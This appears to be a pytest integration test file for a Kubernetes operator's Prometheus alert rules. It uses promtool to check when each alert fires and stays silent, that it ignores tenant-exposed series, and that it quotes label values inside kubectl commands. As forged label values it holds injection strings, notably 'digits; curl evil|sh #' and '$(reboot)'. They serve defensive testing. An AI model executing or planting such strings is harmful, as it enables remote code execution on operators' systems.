"""Every alert fires where it should, is silent where it should be, and believes nobody but the operator, as promtool
judges."""

import re
import subprocess
from collections.abc import Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from charts import alerts, series
from charts.alerts import ALERTS, Alert
from lab import gotools
from tests.integration.conftest import REPOSITORY
from tests.support import patience

pytestmark = pytest.mark.slow

RULES = REPOSITORY / alerts.FILES[0]
OF_MODEL = 'model_namespace="shop",model="digits"'
OF_BATCH = 'batch_namespace="shop",batch="churn"'
MODEL = {"model_namespace": "shop", "model": "digits"}
BATCH = {"batch_namespace": "shop", "batch": "churn"}
REPLICAS = ('instance="a"', 'instance="b"')
TENANTS = 'job="pods",namespace="evil"'
"""What Prometheus says of a pod that exposes the operator's series."""
SHELL = "digits; curl evil|sh #"
SECONDS = 10.0


@dataclass(frozen=True, slots=True)
class Case:
    """What is scraped once a minute, and what of an alert there is then."""

    series: Mapping[str, str]
    """Values in promtool's notation, by series."""
    at: str
    labels: Mapping[str, str] | None = None
    """Of the alert; None: it is silent."""
    value: str = ""
    """As its description shows it."""


def on_both(metric: str, labels: str, values: str) -> dict[str, str]:
    """The same of two replicas."""
    return {f"{metric}{{{replica},{labels}}}": values for replica in REPLICAS}


def status(reason: str, values: str = "1x60") -> dict[str, str]:
    labels = f'{OF_MODEL},strategy="Canary",verdict="Wait",reason="{reason}"'
    return on_both("sluice_release_status", labels, values)


def condition(type_: str, reason: str) -> dict[str, str]:
    return on_both("sluice_model_condition", f'{OF_MODEL},condition="{type_}",reason="{reason}"', "1x60")


def of_batch(type_: str, reason: str) -> dict[str, str]:
    return on_both("sluice_batch_condition", f'{OF_BATCH},condition="{type_}",reason="{reason}"', "1x60")


def moments(**named: int) -> dict[str, str]:
    """Constant timestamps of the batch or the release, in seconds."""
    return {
        key: value
        for name, moment in named.items()
        for key, value in on_both(
            f"sluice_{name}_timestamp_seconds", OF_BATCH if name.startswith("batch") else OF_MODEL, f"{moment}x200"
        ).items()
    }


RELEASE = moments(release_start=0, release_deadline=7200)

CASES: dict[str, list[Case]] = {
    "SluiceReleaseWaitsForPerson": [
        Case(status("PausedAtStep"), "20m", {**MODEL, "reason": "PausedAtStep"}),
        Case(status("DeadlineExceeded"), "20m", {**MODEL, "reason": "DeadlineExceeded"}),
        Case(status("Paused"), "10m"),
        Case(status("GatheringEvidence"), "60m"),
    ],
    "SluiceReleaseBlind": [
        Case(condition("MetricsAvailable", "MetricsUnavailable"), "6m", {**MODEL, "reason": "MetricsUnavailable"}),
        Case(condition("MetricsAvailable", "MetricsUnavailable"), "2m"),
        Case(condition("Ready", "PodsNotReady"), "30m"),
    ],
    "SluiceSplitMismatch": [
        Case(condition("RoutesProgrammed", "SplitMismatch"), "6m", {**MODEL, "reason": "SplitMismatch"}),
        Case(condition("RoutesProgrammed", "GatewayNotFound"), "30m"),
    ],
    "SluiceModelStalled": [
        Case(condition("Stalled", "PolicyNotFound"), "6m", {**MODEL, "reason": "PolicyNotFound"}),
        Case(condition("Current", "RolledBack"), "30m"),
    ],
    "SluiceReleaseRolledBack": [
        Case(condition("Current", "RolledBack"), "1m", {**MODEL, "reason": "RolledBack"}),
        Case(condition("Current", "Aborted"), "30m"),
    ],
    "SluiceModelWorse": [
        Case(condition("Healthy", "WorseThanBefore"), "1m", {**MODEL, "reason": "WorseThanBefore"}),
        Case(condition("Current", "RolledBackByWatch"), "30m"),
        Case(condition("Healthy", "InputsMoved"), "30m"),
    ],
    "SluiceInputsMoved": [
        Case(condition("Healthy", "InputsMoved"), "1m", {**MODEL, "reason": "InputsMoved"}),
        Case(condition("Healthy", "WorseThanBefore"), "30m"),
    ],
    "SluiceReleaseDeadlineNear": [
        Case({**RELEASE, **status("GatheringEvidence", "1x200")}, "110m", MODEL, value="10m 0s"),
        Case({**RELEASE, **status("GatheringEvidence", "1x200")}, "60m"),
        Case({**RELEASE, **status("DeadlineExceeded", "1x200")}, "130m"),
        Case({**RELEASE, **status("Paused", "1x200")}, "110m"),
        Case({**RELEASE, **status("Baking", "1x200")}, "110m"),
    ],
    "SluiceOperatorDown": [
        Case({'sluice_leader{instance="a"}': "0x60"}, "6m", {}),
        Case({'up{instance="a"}': "1x60"}, "6m", {}),
        Case({'sluice_leader{instance="a"}': "0x60", 'sluice_leader{instance="b"}': "1x60"}, "30m"),
        Case({'sluice_leader{instance="a"}': "1x10 0x3 1x20"}, "14m"),
    ],
    "SluiceWritesRefused": [
        Case(
            {'sluice_api_errors_total{instance="a",kind="HTTPRoute",error="Denied"}': "0x5 1x30"},
            "10m",
            {"kind": "HTTPRoute", "error": "Denied"},
        ),
        Case({'sluice_api_errors_total{instance="a",kind="HTTPRoute",error="Denied"}': "0x5 1x60"}, "40m"),
        Case({'sluice_api_errors_total{instance="a",kind="HTTPRoute",error="Conflict"}': "0+1x60"}, "30m"),
    ],
    "SluiceOperatorBehind": [
        Case({'sluice_workqueue_oldest_seconds{instance="a"}': "90x60"}, "6m", {}, value="1m 30s"),
        Case({'sluice_writes_oldest_seconds{instance="a"}': "90x60"}, "6m", {}, value="1m 30s"),
        Case({'sluice_workqueue_oldest_seconds{instance="a"}': "5x60", 'sluice_writes_oldest_seconds{instance="a"}': "0x60"}, "30m"),
        Case({'sluice_workqueue_oldest_seconds{instance="a"}': "5x10 90x2 5x60"}, "14m"),
    ],
    "SluiceReconcileErrors": [
        Case({'sluice_reconcile_duration_seconds_count{instance="a",result="error"}': "0x5 1x30"}, "10m", {}),
        Case({'sluice_reconcile_duration_seconds_count{instance="a",result="error"}': "0x60"}, "30m"),
        Case({'sluice_reconcile_duration_seconds_count{instance="a",result="conflict"}': "0+1x60"}, "30m"),
    ],
    "SluiceBatchLate": [
        Case(moments(batch_next_schedule=600), "30m", BATCH, value="20m 0s"),
        Case(moments(batch_last_schedule=1200, batch_run_start=600), "30m", BATCH, value="10m 0s"),
        Case(moments(batch_next_schedule=3600, batch_last_schedule=600, batch_run_start=605), "70m"),
        Case(moments(batch_last_schedule=1200), "90m"),
    ],
    "SluiceBatchFailed": [
        Case(of_batch("Failed", "ShardFailed"), "1m", {**BATCH, "reason": "ShardFailed"}),
        Case(of_batch("Stalled", "InvalidSchedule"), "30m"),
    ],
    "SluiceBatchStalled": [
        Case(of_batch("Stalled", "InvalidSchedule"), "6m", {**BATCH, "reason": "InvalidSchedule"}),
        Case({**of_batch("Stalled", "ShardFailed"), **of_batch("Failed", "ShardFailed")}, "30m"),
    ],
}  # fmt: skip


def annotations(alert: Alert, labels: Mapping[str, str], value: str) -> dict[str, str]:
    """As Prometheus fills them in."""

    def filled(text: str) -> str:
        text = re.sub(r"\{\{ \$labels\.(\w+) \}\}", lambda found: labels[found[1]], text)
        return text.replace("{{ $value | humanizeDuration }}", value)

    return {name: filled(text) for name, text in alert.rule["annotations"].items()}


def scraped(exposed: Mapping[str, str], by: str) -> dict[str, str]:
    """Series with the labels that a scrape gives them."""
    return {f"{name.removesuffix('}')},{by}}}": values for name, values in exposed.items()}


def in_promtools_words(alert: Alert, case: Case, by: str = series.OPERATOR) -> dict[str, Any]:
    """One test in promtool's words."""
    expected = []
    if case.labels is not None:
        labels = {**case.labels, "severity": alert.severity}
        expected = [{"exp_labels": labels, "exp_annotations": annotations(alert, case.labels, case.value)}]
    return {
        "interval": "1m",
        "input_series": [{"series": name, "values": values} for name, values in scraped(case.series, by).items()],
        "alert_rule_test": [{"eval_time": case.at, "alertname": alert.name, "exp_alerts": expected}],
    }


def promtool(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
    gotools.ensure("promtool")
    command = [gotools.program("promtool"), *arguments]
    return subprocess.run(command, capture_output=True, text=True, timeout=patience.HANG_SECONDS, check=False)


def test_promtool_finds_nothing_wrong() -> None:
    done = promtool("check", "rules", "--lint=all", RULES)
    assert done.returncode == 0, done.stdout + done.stderr


def test_every_alert_has_a_case_in_which_it_fires_and_one_in_which_it_is_silent() -> None:
    assert set(CASES) == {alert.name for alert in ALERTS}
    for name, cases in CASES.items():
        assert {case.labels is None for case in cases} == {True, False}, name


def judged(folder: Path, *tests: dict[str, Any]) -> None:
    """Fails with promtool's words."""
    file = folder / "test.yaml"
    file.write_text(yaml.safe_dump({"rule_files": [str(RULES)], "evaluation_interval": "1m", "tests": list(tests)}))
    done = promtool("test", "rules", file)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("alert", ALERTS, ids=lambda alert: alert.name)
def test_an_alert_fires_and_is_silent(alert: Alert, tmp_path: Path) -> None:
    judged(tmp_path, *(in_promtools_words(alert, case) for case in CASES[alert.name]))


def test_a_tenants_leader_does_not_silence_that_nobody_leads(tmp_path: Path) -> None:
    (alert,) = (each for each in ALERTS if each.name == "SluiceOperatorDown")
    case = Case({'sluice_leader{instance="a"}': "1x60"}, "6m", {})
    elsewhere = ("", TENANTS, 'job="sluice",namespace="evil"', 'job="pods",namespace="sluice-system"')
    judged(tmp_path, *(in_promtools_words(alert, case, by) for by in elsewhere))


@pytest.mark.parametrize(
    "alert", [alert for alert in ALERTS if alert.name != "SluiceOperatorDown"], ids=lambda alert: alert.name
)
def test_series_of_a_tenant_are_no_alert(alert: Alert, tmp_path: Path) -> None:
    fire = [case for case in CASES[alert.name] if case.labels is not None]
    judged(tmp_path, *(in_promtools_words(alert, replace(case, labels=None), TENANTS) for case in fire))


@pytest.mark.parametrize("label", ["model", "model_namespace", "batch", "batch_namespace", "reason", "kind"])
def test_only_names_get_into_the_command_of_an_alert(label: str, tmp_path: Path) -> None:
    """Whoever else gives series these labels, as a Prometheus without relabelling does."""
    pattern = re.compile(rf'\b{label}="[^"]*"')
    shown = [alert for alert in ALERTS if f"$labels.{label} " in alert.summary + alert.description]
    fire = [(alert, case) for alert in shown for case in CASES[alert.name] if case.labels is not None]
    assert fire
    for text in (SHELL, "$(reboot)", "-n", "a'b", ""):
        forged = [
            (alert, {pattern.sub(f'{label}="{text}"', name): values for name, values in case.series.items()}, case.at)
            for alert, case in fire
        ]
        judged(tmp_path, *(in_promtools_words(alert, Case(exposed, at)) for alert, exposed, at in forged))


@pytest.mark.parametrize("alert", ALERTS, ids=lambda alert: alert.name)
def test_what_an_alert_puts_into_a_command_is_quoted(alert: Alert) -> None:
    """Behind the word kubectl, up to the end of the sentence."""
    for command in re.findall(r"kubectl [^.;]+", re.sub(r"\$labels\.", "$labels ", alert.description)):
        for before, after in re.findall(r"(.)\{\{ \$labels \w+ \}\}(.)", command):
            assert (before, after) == ("'", "'"), command
